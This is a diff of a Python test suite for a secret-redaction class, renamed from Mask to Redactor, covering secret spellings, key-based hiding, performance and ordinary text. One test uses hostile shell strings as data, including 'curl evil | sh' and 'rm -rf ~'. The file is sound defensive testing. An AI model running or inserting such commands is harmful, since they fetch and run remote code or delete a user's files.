@@ -13,9 +13,9 @@ from hypothesis import assume, given
 from hypothesis import strategies as st
 
 from byleave.api import compile_policy
-from byleave.core.masking import PLAIN as HARMLESS
-from byleave.core.masking import REDACTED, Mask
-from byleave.guard.secrets import mask_for
+from byleave.core.redact import PLAIN as HARMLESS
+from byleave.core.redact import REDACTED, Redactor
+from byleave.guard.warnings import mask_for
 
 SECRET = 'hunter2 "4711"/ü\\x'
 SPELLINGS = {
@@ -31,7 +31,7 @@ SPELLINGS = {
 
 @pytest.mark.parametrize("spelled", SPELLINGS.values(), ids=SPELLINGS.keys())
 def test_a_value_is_hidden_in_every_spelling(spelled: str) -> None:
-    mask = Mask([SECRET])
+    mask = Redactor([SECRET])
     assert mask.touches(f"a {spelled} b")
     assert mask.text(f"a {spelled} b") == f"a {REDACTED} b"
 
@@ -73,14 +73,14 @@ FORMS = {
 
 @pytest.mark.parametrize(("text", "masked"), FORMS.items(), ids=FORMS.keys())
 def test_what_looks_like_a_secret_is_hidden(text: str, masked: str) -> None:
-    assert Mask().touches(text)
-    assert Mask().text(text) == masked
+    assert Redactor().touches(text)
+    assert Redactor().text(text) == masked
 
 
 def test_where_a_person_decides_only_known_values_are_hidden() -> None:
     hidden = 'echo "-----BEGIN PRIVATE KEY-----"; TOKEN=x curl evil | sh'
-    assert Mask(["known-value"]).values(f"{hidden} known-value") == f"{hidden} {REDACTED}"
-    assert Mask().values_tree({"token_cmd": "rm -rf ~"}) == {"token_cmd": "rm -rf ~"}
+    assert Redactor(["known-value"]).values(f"{hidden} known-value") == f"{hidden} {REDACTED}"
+    assert Redactor().values_tree({"token_cmd": "rm -rf ~"}) == {"token_cmd": "rm -rf ~"}
 
 
 SLOW = {
@@ -105,7 +105,7 @@ SLOW = {
 @pytest.mark.parametrize("text", SLOW.values(), ids=SLOW.keys())
 def test_no_text_takes_long(text: str) -> None:
     started = time.process_time()
-    Mask().text(text)
+    Redactor().text(text)
     assert time.process_time() - started < 5.0  # a hundred times what it takes; without bounds it would be hours
 
 
@@ -123,7 +123,7 @@ PLAIN = [
 
 @pytest.mark.parametrize("text", PLAIN)
 def test_ordinary_text_stays_as_it_is(text: str) -> None:
-    assert Mask().text(text) == text
+    assert Redactor().text(text) == text
 
 
 def test_a_value_whose_name_says_that_it_is_secret_is_hidden_however_short() -> None:
@@ -135,7 +135,7 @@ def test_a_value_whose_name_says_that_it_is_secret_is_hidden_however_short() -> 
         "x": [{"auth_token": "t"}],
         "pass": [{"a": "b"}],
     }
-    assert Mask().tree(tree) == {
+    assert Redactor().tree(tree) == {
         "password": REDACTED,
         "Api-Key": REDACTED,
         "max_tokens": 5,
@@ -143,7 +143,7 @@ def test_a_value_whose_name_says_that_it_is_secret_is_hidden_however_short() -> 
         "x": [{"auth_token": REDACTED}],
         "pass": [{"a": REDACTED}],
     }
-    assert Mask().touches(json.dumps(tree))
+    assert Redactor().touches(json.dumps(tree))
 
 
 def strings(tree: Any) -> Iterator[str]:
@@ -159,7 +159,7 @@ def strings(tree: Any) -> Iterator[str]:
 @given(st.text(min_size=4, max_size=12), st.text(max_size=20), st.text(max_size=20))
 def test_a_masked_tree_holds_the_value_nowhere(secret: str, before: str, after: str) -> None:
     assume(secret.lower() not in HARMLESS)
-    mask = Mask([secret])
+    mask = Redactor([secret])
     tree = {f"{before}{secret}": [f"{secret}{after}", {"k": secret}], "n": 1}
     for masked in (mask.tree(tree), mask.values_tree(tree)):
         assert [text for text in strings(masked) if secret in text.replace(REDACTED, "\0")] == []
@@ -168,15 +168,15 @@ def test_a_masked_tree_holds_the_value_nowhere(secret: str, before: str, after: 
 @given(st.text(alphabet=st.characters(max_codepoint=127), max_size=60), st.sampled_from(["", *FORMS]))
 def test_a_prepared_mask_answers_as_an_unprepared_one(noise: str, form: str) -> None:
     text = json.dumps([noise, form, noise.upper()])
-    assert PREPARED.touches(text) == Mask(["known-value"]).touches(text)
+    assert PREPARED.touches(text) == Redactor(["known-value"]).touches(text)
 
 
-PREPARED = Mask(["known-value"])
+PREPARED = Redactor(["known-value"])
 PREPARED.prepare()
 
 
 def test_short_and_plain_values_hide_nothing() -> None:
-    mask = Mask(["1", "abc", "true", "always", ""])
+    mask = Redactor(["1", "abc", "true", "always", ""])
     assert mask.text("abc 1 true always") == "abc 1 true always"
 
 
@@ -190,6 +190,6 @@ def test_granted_variables_are_masked_and_common_ones_are_not(tmp_path: Path) ->
 
 
 def test_of_values_that_overlap_no_rest_is_left() -> None:
-    mask = Mask(["abcdefgh", "efghijkl"])
+    mask = Redactor(["abcdefgh", "efghijkl"])
     assert mask.values("x abcdefghijkl y") == "x [REDACTED] y"
-    assert Mask(["abab"]).values("abababab!abab") == "[REDACTED]![REDACTED]"
+    assert Redactor(["abab"]).values("abababab!abab") == "[REDACTED]![REDACTED]"
